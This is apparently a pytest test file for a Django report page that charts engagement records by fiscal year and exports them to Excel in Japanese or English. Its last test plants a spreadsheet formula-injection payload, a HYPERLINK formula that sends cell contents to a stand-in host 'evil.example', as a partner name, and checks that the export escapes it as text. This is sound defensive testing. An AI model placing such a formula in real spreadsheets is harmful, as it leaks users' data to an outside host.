import datetime
import io
import json
import zoneinfo

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from core.choices import Confidentiality
from tests.factories.core import UserFactory
from tests.factories.relations import EngagementFactory, country, measure

TOKYO = zoneinfo.ZoneInfo("Asia/Tokyo")
URL = reverse("reports_council")

pytestmark = pytest.mark.django_db


@pytest.fixture
def viewer_client(client):
    user = UserFactory()
    from django.contrib.auth.models import Permission

    user.user_permissions.add(Permission.objects.get(codename="access_admin"))
    client.force_login(user)
    return client


@pytest.fixture
def engagements():
    secret_author = UserFactory()
    seen = EngagementFactory(starts_at=datetime.datetime(2026, 4, 1, 9, tzinfo=TOKYO), measure=measure("3-3"))
    seen.countries.set([country("VN")])
    hidden = EngagementFactory(
        subject="Secret talks",
        starts_at=datetime.datetime(2026, 4, 2, 9, tzinfo=TOKYO),
        confidentiality=Confidentiality.CONFIDENTIAL,
        created_by=secret_author,
        measure=measure("3-3"),
    )
    hidden.countries.set([country("TH")])
    return seen, hidden


def test_council_report_page_redirects_anonymous_users_to_login(client):
    response = client.get(URL)

    assert response.status_code == 302
    assert response["Location"].startswith(reverse("wagtailadmin_login"))


def test_council_report_page_shows_the_chosen_year_with_charts_data(viewer_client, engagements):
    response = viewer_client.get(URL, {"first_year": 2026, "last_year": 2026}, HTTP_ACCEPT_LANGUAGE="ja")

    assert response.status_code == 200
    html = response.content.decode()
    assert "FY2026 (令和8年度)" in html
    assert "chart.umd.min.js" in html
    data = json.loads(response.context["chart_data"] and json.dumps(response.context["chart_data"]))
    assert [series["key"] for series in data["series"]] == ["engagements", "outbound", "inbound", "events"]
    assert sum(data["by_month"]["values"]["engagements"]) == 1
    assert data["by_country"]["labels"] == ["ベトナム"]


def test_council_report_page_says_confidential_records_are_not_counted(viewer_client, engagements):
    response = viewer_client.get(URL, {"first_year": 2026, "last_year": 2026}, HTTP_ACCEPT_LANGUAGE="en")

    html = response.content.decode()
    assert "Confidential records you are not cleared to see are not counted." in html
    assert "タイ" not in html
    assert "Thailand" not in html
    assert response.context["report"].totals.current == {"engagements": 1}


def test_council_report_page_rejects_a_reversed_range_with_a_message(viewer_client):
    response = viewer_client.get(URL, {"first_year": 2026, "last_year": 2025}, HTTP_ACCEPT_LANGUAGE="en")

    assert response.status_code == 200
    assert response.context["report"] is None
    assert "The last fiscal year cannot be before the first." in response.content.decode()


def test_council_report_xlsx_has_one_sheet_per_table_with_japanese_headings(viewer_client, engagements):
    response = viewer_client.get(URL, {"first_year": 2026, "last_year": 2026, "export": "xlsx", "lang": "ja"})

    assert response.status_code == 200
    assert response["Content-Disposition"] == 'attachment; filename="kizuna-council-report-FY2026-FY2026.xlsx"'
    workbook = load_workbook(io.BytesIO(response.content))
    assert workbook.sheetnames == ["年度別", "施策別", "国別", "交流先別", "月別"]
    by_year = workbook["年度別"]
    assert by_year["A4"].value == "年度"
    assert by_year["B4"].value == "面会記録"
    assert [cell.value for cell in by_year[5]][:3] == ["FY2026 (令和8年度)", 1, 0]
    by_country = workbook["国別"]
    assert [cell.value for cell in by_country[5]][:3] == ["ベトナム", None, 1]
    assert by_country.max_row == 5


def test_council_report_xlsx_with_english_headings(viewer_client, engagements):
    response = viewer_client.get(URL, {"first_year": 2026, "last_year": 2026, "export": "xlsx", "lang": "en"})

    workbook = load_workbook(io.BytesIO(response.content))
    assert workbook.sheetnames == ["By fiscal year", "By measure", "By country", "By partner", "By month"]
    assert workbook["By fiscal year"]["B4"].value == "Engagements"


def test_council_report_printable_page_is_standalone(viewer_client, engagements):
    response = viewer_client.get(URL, {"first_year": 2026, "last_year": 2026, "print": 1}, HTTP_ACCEPT_LANGUAGE="en")

    html = response.content.decode()
    assert html.startswith("<!DOCTYPE html>")
    assert "International strategy: council report" in html
    assert "wagtailadmin" not in html.split("<main>")[0]


def test_council_report_xlsx_labels_its_rows_in_the_workbooks_language_not_the_pages(viewer_client, engagements):
    # The page is in Japanese; the workbook asked for is English.
    response = viewer_client.get(
        URL, {"first_year": 2026, "last_year": 2026, "export": "xlsx", "lang": "en"}, HTTP_ACCEPT_LANGUAGE="ja"
    )

    workbook = load_workbook(io.BytesIO(response.content))
    by_year = workbook["By fiscal year"]
    assert [row[0] for row in by_year.iter_rows(min_row=5, max_col=1, values_only=True)][:2] == [
        "FY2026 (令和8年度)",
        "Total",
    ]
    assert [cell.value for cell in workbook["By country"][5]][:3] == ["Viet Nam", None, 1]


def test_council_report_xlsx_writes_a_partners_name_as_text_never_a_formula(viewer_client):
    from tests.factories.partners import OrganizationFactory

    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'
    engagement = EngagementFactory(starts_at=datetime.datetime(2026, 5, 1, 9, tzinfo=TOKYO))
    engagement.organizations.set([OrganizationFactory(name=formula)])

    response = viewer_client.get(URL, {"first_year": 2026, "last_year": 2026, "export": "xlsx", "lang": "en"})

    by_partner = load_workbook(io.BytesIO(response.content))["By partner"]
    assert (by_partner["A5"].value, by_partner["A5"].data_type) == (formula, "s")
